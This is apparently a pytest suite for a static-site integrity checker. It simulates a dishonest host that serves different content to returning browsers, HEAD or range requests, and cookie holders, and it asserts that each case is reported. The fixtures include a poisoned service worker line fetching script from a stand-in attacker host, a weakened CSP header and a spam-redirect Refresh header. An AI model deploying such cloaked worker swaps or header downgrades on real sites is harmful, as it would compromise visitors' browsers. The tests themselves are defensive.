"""HEAD, parts, conditions, methods, and what a first visit leaves for the second."""

from __future__ import annotations

import pytest

from ..joined import verify
from .attacker import Ask, Reply, Twist, files_of, serving
from .conftest import Copy, site_at

pytestmark = pytest.mark.servers
CSP, BANNER = "content-security-policy", "<b>nổ hũ</b>"


def found(copy: Copy, step: str, twist: Twist) -> dict[tuple[str, str], str]:
    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        verify.check_files(site)
        getattr(verify, step)(site)
    return {key: detail for key, detail in site.report.found.items() if verify.KINDS[key[0]].level}


def asked(header: str, **change: str) -> Twist:
    """Whoever sends this header is told that nothing has changed, with other headers (`_` for `-`)."""

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/" and header in ask.headers:
            reply.status, reply.body = 304, b""
            reply.headers |= {name.replace("_", "-"): value for name, value in change.items()}

    return twist


def again(ask: Ask, reply: Reply) -> None:
    """A browser that asks whether its copy is still good gets another page."""
    if ask.path == "/" and "if-none-match" in ask.headers and "cache-control" in ask.headers:
        reply.status = 200
        reply.body = b"<h1>nha cai</h1>"


CONDITIONS: dict[str, tuple[Twist, str]] = {
    "any tag is good": (asked("if-none-match"), "dù bản ấy không phải của trang"),
    "any date is good": (asked("if-modified-since"), "dù bản ấy không phải của trang"),
    "the tag of another version": (asked("if-none-match", ETag='"khac-han"'), "ETag khác"),
    "a weaker policy with a 304": (asked("if-none-match", **{CSP.replace("-", "_"): "script-src *"}), CSP),
    "Refresh with a 304": (asked("if-none-match", Refresh="1; url=//x.example"), "Refresh"),
    "browsers that ask again": (again, "trả lời 200"),
}


@pytest.mark.parametrize("name", CONDITIONS)
def test_a_copy_that_is_kept_wrongly_is_told(name: str, copy: Copy) -> None:
    twist, words = CONDITIONS[name]
    told = found(copy, "check_ways_of_asking", twist)
    assert told.keys() == {("conditional-differs", "index.html")}
    assert words in told["conditional-differs", "index.html"]


@pytest.mark.parametrize("name", ["sw.js", "truong.webmanifest"])
@pytest.mark.parametrize("header", ["if-none-match", "if-modified-since"])
def test_what_browsers_ask_for_again_by_themselves(name: str, header: str, copy: Copy) -> None:
    """Every day: a worker that is poisoned for those alone who have it already stays with them."""
    (copy.folder / name).write_text("{}\n", "utf-8")
    copy.sign()

    def twist(ask: Ask, reply: Reply) -> None:
        reply.headers["Last-Modified"] = "Sun, 22 Nov 2026 00:00:00 GMT"
        if ask.path == f"/{name}" and header in ask.headers:
            reply.status, reply.body = 200, b"importScripts('https://push.bad.example/w.js')"

    told = found(copy, "check_ways_of_asking", twist)
    assert told.keys() == {("conditional-differs", name)} and "push.bad.example" in told["conditional-differs", name]


@pytest.mark.parametrize("agent", ["", "Windows"])
def test_a_worker_that_only_those_get_who_keep_it_is_named_so(agent: str, copy: Copy) -> None:
    """Not after the tag that browsers bring along: it is another one for who has none as well."""
    (copy.folder / "sw.js").write_text("self.onfetch = null;\n", "utf-8")
    copy.sign()

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/sw.js" and ask.headers.get("service-worker") == "script" and ask.agent(agent):
            reply.status, reply.body = 200, b"importScripts('https://push.bad.example/w.js')"

    assert found(copy, "check_ways_of_asking", twist).keys() == {("worker-swapped", "sw.js")}


@pytest.mark.parametrize(("old", "kind"), [(True, "rollback"), (False, "conditional-differs")])
def test_another_list_for_those_who_have_one(old: bool, kind: str, copy: Copy) -> None:
    copy.sign(serial=3)
    older = (copy.folder / "integrity.json").read_bytes()
    copy.sign()

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.secret and "if-none-match" in ask.headers:
            reply.status, reply.body = 200, older if old else b"{}"

    with serving(files_of(copy.folder), twist, blind=False) as server:
        site = site_at(server.server_port, copy)
        site.client.listed["integrity.json"] = (copy.folder / "integrity.json").read_bytes()
        verify.check_list_again(site)
    assert site.report.found.keys() == {(kind, "integrity.json")}


def test_a_download_that_was_cut_goes_on_with_other_bytes(copy: Copy) -> None:
    def twist(ask: Ask, reply: Reply) -> None:
        if "if-range" in ask.headers:
            reply.status, reply.body = 206, BANNER.encode()

    assert {kind for kind, _ in found(copy, "check_ways_of_asking", twist)} == {"range-differs"}


def dated(value: str) -> Twist:
    """Files with a date, and no tag; who asks with an older date than it gets them, else 304."""

    def twist(ask: Ask, reply: Reply) -> None:
        reply.headers.pop("ETag", None)
        if reply.status in (200, 304):
            reply.headers["Last-Modified"] = value
        since = ask.headers.get("if-modified-since", "")
        if since and (since == value or (value.split()[3] < "2000" and reply.status == 200)):
            reply.status, reply.body = 304, b""

    return twist


@pytest.mark.parametrize("twist", [dated("Sun, 22 Nov 2026 00:00:00 GMT"), dated("Tue, 01 Jan 1980 00:00:00 GMT")])
def test_an_honest_host_is_not_accused(twist: Twist, copy: Copy) -> None:
    """Nor one whose files carry the date of the epoch, as some archives give them."""
    assert found(copy, "check_ways_of_asking", twist) == {}


def test_tags_of_one_version() -> None:
    assert {verify._bare(tag) for tag in ('"a1"', 'W/"a1"', '"a1-gzip"', '"a1;br"', 'W/"a1:zstd"')} == {"a1"}


@pytest.mark.parametrize(
    ("method", "range_", "kind"), [("HEAD", False, "head-differs"), ("GET", True, "range-differs")]
)
def test_protection_holds_for_heads_and_parts(method: str, range_: bool, kind: str, copy: Copy) -> None:
    def twist(ask: Ask, reply: Reply) -> None:
        if (
            ask.path == "/"
            and ask.method == method
            and ("range" in ask.headers) == range_
            and reply.status in (200, 206)
        ):
            reply.headers[CSP] = "script-src * 'unsafe-inline'"

    assert (kind, "index.html") in (told := found(copy, "check_ways_of_asking", twist))
    assert kind == "range-differs" or told.keys() == {(kind, "index.html")}


METHODS: dict[str, tuple[str, Twist]] = {
    "a list of the folder": ("PROPFIND", lambda ask, reply: reply.__setattr__("status", 207)),
    "away": ("POST", lambda ask, reply: reply.go()),
    "a refusal that sells": ("POST", lambda ask, reply: reply.__setattr__("body", BANNER.encode())),
    "a cookie": ("OPTIONS", lambda ask, reply: reply.headers.__setitem__("Set-Cookie", "a=1; Max-Age=999")),
}


@pytest.mark.parametrize("name", METHODS)
def test_other_methods_do_nothing(name: str, copy: Copy) -> None:
    method, change = METHODS[name]
    told = found(copy, "check_methods", lambda ask, reply: change(ask, reply) if ask.method == method else None)
    assert told.keys() == {("methods-open", method)}


def test_a_host_of_files_that_gives_every_method_the_page_is_not_open(copy: Copy) -> None:
    """POST writes nothing there: what it gives is what GET gives."""
    page = (copy.folder / "index.html").read_bytes()

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.method == "POST":
            reply.status, reply.body = 200, page

    assert found(copy, "check_methods", twist) == {}


def test_a_cookie_from_any_answer_is_brought_back(copy: Copy) -> None:
    """Laid down for browsers alone; whoever brings it is shown something else."""

    def twist(ask: Ask, reply: Reply) -> None:
        if "lan=1" in ask.headers.get("cookie", ""):
            reply.insert(BANNER)
        elif ask.agent("Chrome"):
            reply.headers["Set-Cookie"] = "lan=1; HttpOnly"

    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        verify.check_files(site)
        verify.expect_file(site, "index.html", {"ua": "Edge", "cookie": "của trang"})
    assert {kind for kind, _ in site.report.found} == {"host-cookie", "cloak-cookie"}


def test_cookies_that_are_kept_are_bounded() -> None:
    site = verify.Site(
        verify.Client("http://a.example/", verify.Limits(0)), verify.Comparing(_nothing()), verify.Report("")
    )
    site.keep_cookies(
        verify.Answer(200, [("Set-Cookie", f"{'a' * 5000}=1"), *[("Set-Cookie", f"a{n}=1") for n in range(90)]])
    )
    assert len("; ".join(site.cookies.values())) < 200


def _nothing() -> object:
    return type("Manifest", (), {"files": {}})()
